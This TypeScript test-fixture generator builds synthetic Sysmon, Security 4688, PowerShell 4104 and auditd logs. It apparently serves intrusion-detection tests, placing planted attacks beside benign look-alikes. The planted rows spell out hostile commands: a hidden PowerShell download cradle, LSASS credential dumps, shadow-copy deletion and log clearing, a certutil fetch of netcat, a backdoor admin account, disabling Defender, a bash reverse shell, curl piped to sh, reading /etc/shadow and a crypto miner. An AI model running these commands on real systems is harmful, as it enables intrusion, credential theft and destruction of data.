// Process-creation events as the exports a responder gets: Sysmon 1 in EvtxECmd CSV, Security 4688
// in Get-WinEvent | Export-Csv (message text) and in wevtutil XML, and PowerShell 4104 script
// blocks shipped by Winlogbeat. Each intrusion sits beside the ordinary processes that look like it.
import { evtxRow, EVTX_HEADER } from '../planted6host/windows';

const q = (s: string): string => `"${s.replace(/"/g, '""')}"`;
const hms = (sec: number): string => new Date(Date.UTC(2026, 2, 10) + sec * 1000).toISOString().slice(11, 19);
const SYSMON = 'Microsoft-Windows-Sysmon';

/** A Sysmon 1 (process create) row as EvtxECmd writes it. */
const sysmon = (n: number, sec: number, computer: string, user: string, image: string, command: string, parent: string): string =>
  evtxRow({
    n,
    t: hms(sec),
    id: 1,
    provider: SYSMON,
    channel: 'Microsoft-Windows-Sysmon/Operational',
    computer,
    map: 'Process creation',
    user,
    pd: [`ProcessID: ${4000 + n}, ProcessGUID: 8f1c0a3e-0000-0000-0000-${String(n).padStart(12, '0')}`, 'RuleName: -', 'MD5=00000000000000000000000000000000,SHA256=0000', `ParentProcess: ${parent}`, `ParentProcessID: ${3000 + n}`, `ParentCommandLine: ${parent}`],
    exe: command,
    data: { RuleName: '-', UtcTime: `2026-03-10 ${hms(sec)}.123`, ProcessGuid: '{8f1c0a3e-0000-0000-0000-000000000000}', ProcessId: String(4000 + n), Image: image, FileVersion: '10.0', CommandLine: command, CurrentDirectory: 'C:\\Windows\\system32\\', User: user, LogonId: '0x3e7', IntegrityLevel: 'High', ParentImage: parent, ParentCommandLine: parent },
  });

const b64 = (ps: string): string => Buffer.from(ps, 'utf16le').toString('base64');

/** WS07, WS09 and WEB01's Sysmon logs (EvtxECmd). */
export function sysmonLog(): string[] {
  const rows = [EVTX_HEADER];
  let n = 100;
  const ws07 = 'WS07.corp.example.com';
  // trap: an ordinary morning: browsers, Office, SCCM's PowerShell, an admin's whoami and ipconfig, Veeam listing shadows
  for (let i = 0; i < 30; i++) {
    rows.push(sysmon(n++, 8 * 3600 + i * 97, ws07, 'CORP\\k.lopez', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe', '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --lang=en-US', 'C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe'));
  }
  rows.push(sysmon(n++, 8 * 3600 + 3000, ws07, 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', 'powershell.exe -NoLogo -NoProfile -NonInteractive -ExecutionPolicy Bypass -File "C:\\Windows\\CCM\\SystemTemp\\inventory.ps1"', 'C:\\Windows\\CCM\\CcmExec.exe'));
  rows.push(sysmon(n++, 8 * 3600 + 3100, ws07, 'CORP\\adm-mark', 'C:\\Windows\\System32\\whoami.exe', 'whoami /groups', 'C:\\Windows\\System32\\cmd.exe'));
  rows.push(sysmon(n++, 8 * 3600 + 3110, ws07, 'CORP\\adm-mark', 'C:\\Windows\\System32\\ipconfig.exe', 'ipconfig /all', 'C:\\Windows\\System32\\cmd.exe'));
  rows.push(sysmon(n++, 8 * 3600 + 3120, ws07, 'CORP\\adm-mark', 'C:\\Windows\\System32\\PING.EXE', 'ping dc01', 'C:\\Windows\\System32\\cmd.exe'));
  rows.push(sysmon(n++, 9 * 3600, 'FS01.corp.example.com', 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\System32\\vssadmin.exe', 'vssadmin list shadows', 'C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe'));
  rows.push(sysmon(n++, 9 * 3600 + 10, 'FS01.corp.example.com', 'NT AUTHORITY\\SYSTEM', 'C:\\Windows\\System32\\reg.exe', 'reg save HKLM\\SOFTWARE\\Veeam C:\\ProgramData\\Veeam\\reg.bak', 'C:\\Program Files\\Veeam\\Endpoint Backup\\Veeam.EndPoint.Service.exe'));
  rows.push(sysmon(n++, 9 * 3600 + 20, 'WS09.corp.example.com', 'CORP\\p.owens', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\EXCEL.EXE" /dde', 'C:\\Windows\\explorer.exe'));
  rows.push(sysmon(n++, 9 * 3600 + 30, 'WS09.corp.example.com', 'CORP\\p.owens', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE', '"C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE" /n "C:\\Users\\p.owens\\Downloads\\Invoice_0392.docm"', 'C:\\Windows\\explorer.exe'));
  // planted: the macro in that invoice starts hidden PowerShell that downloads and runs a stager
  const stager = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/a.ps1')";
  rows.push(sysmon(n++, 9 * 3600 + 34, 'WS09.corp.example.com', 'CORP\\p.owens', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe', `powershell.exe -nop -w hidden -enc ${b64(stager)}`, 'C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE'));
  // planted: an hour later on WS07, jdoe's shell asks who and where it is (six kinds in four minutes), then dumps LSASS
  const recon = ['whoami /all', 'net group "domain admins" /domain', 'nltest /dclist:corp', 'systeminfo', 'net user /domain', 'ipconfig /all', 'quser'];
  recon.forEach((c, i) => rows.push(sysmon(n++, 10 * 3600 + i * 35, ws07, 'CORP\\jdoe', `C:\\Windows\\System32\\${c.split(' ')[0]}.exe`, c, 'C:\\Windows\\System32\\cmd.exe')));
  rows.push(sysmon(n++, 10 * 3600 + 600, ws07, 'CORP\\jdoe', 'C:\\Users\\Public\\pd64.exe', 'C:\\Users\\Public\\pd64.exe -accepteula -ma lsass.exe C:\\Users\\Public\\l.dmp', 'C:\\Windows\\System32\\cmd.exe'));
  rows.push(sysmon(n++, 10 * 3600 + 640, ws07, 'CORP\\jdoe', 'C:\\Windows\\System32\\rundll32.exe', 'rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\m.dmp full', 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe'));
  // planted: the web server's IIS worker starts cmd.exe to run whoami: a web shell
  rows.push(sysmon(n++, 11 * 3600, 'WEB01.corp.example.com', 'IIS APPPOOL\\DefaultAppPool', 'C:\\Windows\\System32\\cmd.exe', 'cmd.exe /c whoami', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'));
  // trap: IIS starting its own compiler (csc.exe) for an ASP.NET page is routine
  rows.push(sysmon(n++, 11 * 3600 + 5, 'WEB01.corp.example.com', 'IIS APPPOOL\\DefaultAppPool', 'C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe', '"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\csc.exe" /noconfig /fullpaths @"C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\Temporary ASP.NET Files\\root\\x.cmdline"', 'C:\\Windows\\System32\\inetsrv\\w3wp.exe'));
  return rows;
}

const SEC = 'Microsoft-Windows-Security-Auditing';
const EXPORT_HEADER = ['#TYPE System.Diagnostics.Eventing.Reader.EventLogRecord', '"Message","Id","Version","Qualifiers","Level","Task","Opcode","Keywords","RecordId","ProviderName","ProviderId","LogName","ProcessId","ThreadId","MachineName","UserId","TimeCreated","ContainerLog","MatchedQueryIds","Bookmark","LevelDisplayName","OpcodeDisplayName","TaskDisplayName","KeywordsDisplayNames","Properties"'];
const created = (user: string, image: string, parent: string, command: string): string =>
  `A new process has been created.\n\nCreator Subject:\n\tSecurity ID:\t\tCORP\\${user}\n\tAccount Name:\t\t${user}\n\tAccount Domain:\t\tCORP\n\tLogon ID:\t\t0x5C1A2\n\nTarget Subject:\n\tSecurity ID:\t\tNULL SID\n\tAccount Name:\t\t-\n\tAccount Domain:\t\t-\n\tLogon ID:\t\t0x0\n\nProcess Information:\n\tNew Process ID:\t\t0x1a2c\n\tNew Process Name:\t${image}\n\tToken Elevation Type:\t%%1937\n\tMandatory Label:\t\tMandatory Label\\High Mandatory Level\n\tCreator Process ID:\t0x1b2c\n\tCreator Process Name:\t${parent}\n\tProcess Command Line:\t${command}\n\nToken Elevation Type indicates the type of token that was assigned to the new process in accordance with User Account Control policy.`;
const exportRow = (message: string, record: number, time: string): string =>
  [q(message.replace(/\n/g, '\r\n')), '"4688"', '"2"', '""', '"0"', '"13312"', '"0"', '"-9214364837600034816"', q(String(record)), q(SEC), '"54849625-5478-4994-a5ba-3e3b0328c30d"', '"Security"', '"4"', '"8120"', '"FS02.corp.example.com"', '""', q(time), '"Security"', '""', '"System.Diagnostics.Eventing.Reader.EventBookmark"', '"Information"', '"Info"', '"Process Creation"', '"Audit Success"', '"System.Collections.Generic.List`1[System.Diagnostics.Eventing.Reader.EventProperty]"'].join(',');

/** FS02's Security log (Export-Csv): the ransomware's last steps, beside a backup job listing shadows. */
export function securityExport(): string[] {
  const cmd = 'C:\\Windows\\System32\\cmd.exe';
  return [
    ...EXPORT_HEADER,
    exportRow(created('svc_backup', 'C:\\Windows\\System32\\vssadmin.exe', 'C:\\Program Files\\Veeam\\Backup\\Veeam.Backup.Service.exe', 'vssadmin list shadows /for=D:'), 70001, '3/10/2026 1:00:00 AM'),
    exportRow(created('svc_backup', 'C:\\Windows\\System32\\wevtutil.exe', 'C:\\Program Files\\Veeam\\Backup\\Veeam.Backup.Service.exe', 'wevtutil qe Application /c:50 /f:text'), 70002, '3/10/2026 1:00:05 AM'),
    exportRow(created('adm-kim', 'C:\\Windows\\System32\\vssadmin.exe', cmd, 'vssadmin.exe delete shadows /all /quiet'), 70101, '3/10/2026 4:12:00 AM'),
    exportRow(created('adm-kim', 'C:\\Windows\\System32\\bcdedit.exe', cmd, 'bcdedit /set {default} recoveryenabled No'), 70102, '3/10/2026 4:12:03 AM'),
    exportRow(created('adm-kim', 'C:\\Windows\\System32\\wevtutil.exe', cmd, 'wevtutil cl Security'), 70103, '3/10/2026 4:12:09 AM'),
  ];
}

const xmlEscape = (s: string): string => s.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
const xml4688 = (rec: number, time: string, user: string, image: string, parent: string, command: string): string =>
  `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event"><System><Provider Name="${SEC}" Guid="{54849625-5478-4994-a5ba-3e3b0328c30d}"/><EventID>4688</EventID><Version>2</Version><Level>0</Level><Task>13312</Task><Opcode>0</Opcode><Keywords>0x8020000000000000</Keywords><TimeCreated SystemTime="2026-03-10T${time}.1234567Z"/><EventRecordID>${rec}</EventRecordID><Correlation/><Execution ProcessID="4" ThreadID="96"/><Channel>Security</Channel><Computer>APP03.corp.example.com</Computer><Security/></System><EventData><Data Name="SubjectUserSid">S-1-5-21-1-2-3-1108</Data><Data Name="SubjectUserName">${user}</Data><Data Name="SubjectDomainName">CORP</Data><Data Name="SubjectLogonId">0x3e7</Data><Data Name="NewProcessId">0x1f00</Data><Data Name="NewProcessName">${xmlEscape(image)}</Data><Data Name="TokenElevationType">%%1936</Data><Data Name="ProcessId">0x1e00</Data><Data Name="CommandLine">${xmlEscape(command)}</Data><Data Name="TargetUserSid">S-1-0-0</Data><Data Name="TargetUserName">-</Data><Data Name="TargetDomainName">-</Data><Data Name="TargetLogonId">0x0</Data><Data Name="ParentProcessName">${xmlEscape(parent)}</Data><Data Name="MandatoryLabel">S-1-16-12288</Data></EventData></Event>`;

/** APP03's Security log (wevtutil XML): certutil fetching a tool into Users\Public, and an account made an administrator; beside certutil hashing a file. */
export function securityXml(): string[] {
  const cmd = 'C:\\Windows\\System32\\cmd.exe';
  return [
    xml4688(9001, '07:00:00', 'adm-kim', 'C:\\Windows\\System32\\certutil.exe', cmd, 'certutil -hashfile C:\\Temp\\setup.msi SHA256'),
    xml4688(9101, '05:20:00', 'svc_sql', 'C:\\Windows\\System32\\certutil.exe', 'C:\\Program Files\\Microsoft SQL Server\\MSSQL15.MSSQLSERVER\\MSSQL\\Binn\\sqlservr.exe', 'certutil.exe -urlcache -split -f http://198.51.100.23/nc.exe C:\\Users\\Public\\nc.exe'),
    xml4688(9102, '05:21:00', 'svc_sql', 'C:\\Windows\\System32\\net.exe', cmd, 'net user support_tmp P@ssw0rd123! /add'),
    xml4688(9103, '05:21:05', 'svc_sql', 'C:\\Windows\\System32\\net.exe', cmd, 'net localgroup administrators support_tmp /add'),
  ];
}

/** WS11's PowerShell script blocks (4104) shipped by Winlogbeat: Defender switched off, beside a module's ordinary code. */
export function scriptBlocks(): string[] {
  const ev = (sec: number, text: string): string =>
    JSON.stringify({ '@timestamp': `2026-03-10T${hms(sec)}.000Z`, event: { code: '4104', provider: 'Microsoft-Windows-PowerShell', kind: 'event' }, host: { name: 'ws11' }, winlog: { channel: 'Microsoft-Windows-PowerShell/Operational', event_id: '4104', computer_name: 'WS11.corp.example.com', provider_name: 'Microsoft-Windows-PowerShell', event_data: { MessageNumber: '1', MessageTotal: '1', ScriptBlockText: text, ScriptBlockId: '2c5e0f4e-0000-0000-0000-000000000000', Path: '' }, user: { name: 'k.lopez', domain: 'CORP' } }, message: `Creating Scriptblock text (1 of 1):\n${text}\n\nScriptBlock ID: 2c5e0f4e-0000-0000-0000-000000000000\nPath: ` });
  return [
    ev(8 * 3600, 'function Get-Inventory { param($Path) Get-ChildItem -Path $Path -Recurse | Measure-Object -Property Length -Sum }'),
    ev(8 * 3600 + 60, 'Get-MpComputerStatus | Select-Object AMServiceEnabled, RealTimeProtectionEnabled'),
    ev(3 * 3600, 'Set-MpPreference -DisableRealtimeMonitoring $true; Add-MpPreference -ExclusionPath C:\\Users\\Public'),
  ];
}

/** web3's auditd log (execve rules): a web shell's reverse shell and what followed, beside the server's own jobs. */
export function auditLog(): string[] {
  const rows: string[] = [];
  let serial = 5000;
  const t0 = Date.UTC(2026, 2, 10, 12) / 1000;
  const hex = (s: string): string => Buffer.from(s, 'utf8').toString('hex').toUpperCase();
  /** one program run: its SYSCALL, EXECVE, CWD and PROCTITLE records; arguments with spaces are hex, as auditd writes them */
  const run = (sec: number, uid: number, args: string[]): void => {
    const stamp = `${(t0 + sec).toFixed(3)}:${serial++}`;
    const comm = args[0]!.split('/').pop()!;
    rows.push(`type=SYSCALL msg=audit(${stamp}): arch=c000003e syscall=59 success=yes exit=0 a0=55d1c a1=55d2c a2=55d3c a3=0 items=2 ppid=2211 pid=${2300 + serial} auid=4294967295 uid=${uid} gid=${uid} euid=${uid} suid=${uid} fsuid=${uid} egid=${uid} sgid=${uid} fsgid=${uid} tty=(none) ses=4294967295 comm="${comm}" exe="/usr/bin/${comm}" key="exec"`);
    rows.push(`type=EXECVE msg=audit(${stamp}): argc=${args.length} ${args.map((a, i) => `a${i}=${/[\s"']/.test(a) ? hex(a) : `"${a}"`}`).join(' ')}`);
    rows.push(`type=CWD msg=audit(${stamp}): cwd="/var/www/html"`);
    rows.push(`type=PROCTITLE msg=audit(${stamp}): proctitle=${hex(args.join('\u0000'))}`);
  };
  // trap: the server's own day: logrotate, a health check with curl, the monitoring agent's ps and ss, an admin's ip a and id
  run(0, 0, ['/usr/sbin/logrotate', '/etc/logrotate.conf']);
  run(60, 0, ['curl', '-fsS', 'https://api.example.com/health']);
  run(120, 112, ['ps', 'aux']);
  run(125, 112, ['ss', '-tlpn']);
  run(300, 1000, ['ip', 'a']);
  run(310, 1000, ['id']);
  run(400, 0, ['find', '/var/www', '-name', '*.php', '-mtime', '-1']);
  // planted: the web shell (www-data, uid 33) opens a reverse shell, looks around, fetches a miner, reads shadow, wipes history
  run(3600, 33, ['bash', '-c', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']);
  for (const [i, a] of [['id'], ['uname', '-a'], ['cat', '/etc/passwd'], ['sudo', '-l'], ['ps', 'aux'], ['netstat', '-tlpn'], ['cat', '/etc/os-release']].entries()) run(3620 + i * 20, 33, a);
  run(3800, 33, ['sh', '-c', 'curl -s http://203.0.113.9/x.sh | sh']);
  run(3860, 0, ['cat', '/etc/shadow']);
  run(3900, 0, ['/tmp/.x/xmrig', '-o', 'stratum+tcp://pool.example.net:3333', '-u', '4Abc']);
  run(3990, 0, ['bash', '-c', 'history -c; unset HISTFILE']);
  return rows;
}
